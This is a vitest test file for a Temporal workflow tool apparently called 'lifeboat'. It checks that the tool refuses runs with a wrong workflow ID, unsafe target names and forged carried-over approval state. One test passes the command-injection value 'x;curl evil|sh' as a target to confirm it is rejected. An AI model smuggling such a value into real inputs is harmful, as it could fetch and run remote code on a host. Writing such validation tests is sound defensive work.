import { WorkflowFailedError } from '@temporalio/client';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { interveneUpdate, type RunStatus } from '../../kit';
import { lifeboatInProcess } from '../helpers/cli';
import { connectToTestServer, createTestWorker, testTaskQueue, waitForStatus, type TemporalTestContext } from '../helpers/temporal';

// What a run checks before it does anything, whichever client started it, and how a refused start is shown.
let ctx: TemporalTestContext;
beforeAll(async () => {
  ctx = await connectToTestServer();
});
afterAll(async () => ctx?.close());

async function failure(workflowId: string): Promise<string> {
  const err = await ctx.client.workflow
    .getHandle(workflowId)
    .result()
    .catch((e: unknown) => e);
  expect(err).toBeInstanceOf(WorkflowFailedError);
  return (err as WorkflowFailedError).cause?.message ?? '';
}

test('a run whose workflow ID is not the one its target gives is refused, shown as failed by status and list, and holds nothing', async () => {
  const taskQueue = testTaskQueue();
  const env = { TEMPORAL_ADDRESS: ctx.address, LIFEBOAT_TASK_QUEUE: taskQueue };
  const { worker, effects } = await createTestWorker(ctx, taskQueue);
  await worker.runUntil(async () => {
    const target = `ids-${taskQueue}`;
    const wrongId = `kit-exercise/not-${target}`;
    await ctx.client.workflow.start('kitExercise', { taskQueue, workflowId: wrongId, args: [{ input: { target, quorum: 1 }, requestedBy: 'alice' }] });
    expect(await failure(wrongId)).toMatch(new RegExp(`its input makes it kit-exercise on ${target}, whose ID is "kit-exercise/${target}"`));
    expect(effects.filter((e) => e.target === target)).toEqual([]);

    const status = await lifeboatInProcess(['status', wrongId, '--json'], env);
    expect(status.code).toBe(0);
    expect(JSON.parse(status.stdout) as RunStatus).toMatchObject({
      state: 'failed',
      runbook: 'kit-exercise',
      outcome: expect.stringMatching(/^the run was refused at start: this run's workflow ID/),
    });
    const listed = await lifeboatInProcess(['list', '--runbook', 'kit-exercise', '--state', 'failed', '--json'], env);
    expect((JSON.parse(listed.stdout) as { runId: string; state: string }[]).find((r) => r.runId === wrongId)).toMatchObject({ state: 'failed' });

    // The real ID was never held: a run under it starts and waits at its gate.
    const real = await ctx.client.workflow.start('kitExercise', {
      taskQueue,
      workflowId: `kit-exercise/${target}`,
      args: [{ input: { target, quorum: 1 }, requestedBy: 'alice' }],
    });
    await waitForStatus(real, (s) => s.state === 'waiting-approval');
    await real.executeUpdate(interveneUpdate, { args: [{ action: 'abort', by: 'erin', reason: 'test done' }] });
    await real.result();
  });
});

test('a target outside the safe character set is refused before anything runs, and its text is never echoed raw', async () => {
  const taskQueue = testTaskQueue();
  const { worker, effects } = await createTestWorker(ctx, taskQueue);
  await worker.runUntil(async () => {
    const target = 'x;curl evil|sh';
    const workflowId = `kit-exercise/unsafe-${taskQueue}`;
    await ctx.client.workflow.start('kitExercise', { taskQueue, workflowId, args: [{ input: { target, quorum: 1 }, requestedBy: 'alice' }] });
    expect(await failure(workflowId)).toMatch(/may hold only letters, digits, "\.", "_" and "-"/);
    expect(effects).toEqual([]);
    const status = await ctx.client.workflow.getHandle(workflowId).query<RunStatus>('status');
    expect(status).toMatchObject({ state: 'failed', target: '(invalid)' });
  });
});

test('an aborted run shows its gate as closed and offers no next action', async () => {
  const taskQueue = testTaskQueue();
  const env = { TEMPORAL_ADDRESS: ctx.address, LIFEBOAT_TASK_QUEUE: taskQueue };
  const { worker } = await createTestWorker(ctx, taskQueue);
  await worker.runUntil(async () => {
    const target = `closed-${taskQueue}`;
    const handle = await ctx.client.workflow.start('kitExercise', {
      taskQueue,
      workflowId: `kit-exercise/${target}`,
      args: [{ input: { target, quorum: 1 }, requestedBy: 'alice' }],
    });
    await waitForStatus(handle, (s) => s.state === 'waiting-approval');
    await handle.executeUpdate(interveneUpdate, { args: [{ action: 'abort', by: 'erin', reason: 'not needed' }] });
    const result = (await handle.result()) as RunStatus;
    expect(result.gates[0]).toMatchObject({ status: 'closed' });
    const shown = await lifeboatInProcess(['status', handle.workflowId], env);
    expect(shown.stdout).toContain('state: aborted');
    expect(shown.stdout).not.toContain('next: lifeboat approve');
  });
});

test('carried-over state is refused from any start Temporal did not continue, so nobody can hand a run approved gates', async () => {
  const taskQueue = testTaskQueue();
  const { worker, effects } = await createTestWorker(ctx, taskQueue);
  await worker.runUntil(async () => {
    const target = `carried-${taskQueue}`;
    const workflowId = `kit-exercise/${target}`;
    // A forged carry-over claiming every step and the gate done, as a client with namespace access could send it.
    const carried = {
      status: { runId: workflowId, gates: [], steps: [], audit: [] },
      steps: { 'prepare#1': { result: null }, 'gate:approve#1': { result: 'passed' } },
      usedNonces: [],
      count: 1,
    };
    await ctx.client.workflow.start('kitExercise', { taskQueue, workflowId, args: [{ input: { target, quorum: 1 }, requestedBy: 'alice', carried }] });
    expect(await failure(workflowId)).toMatch(/carried-over state is only taken from a run that continued as this one/);
    expect(effects.filter((e) => e.target === target)).toEqual([]);
  });
});
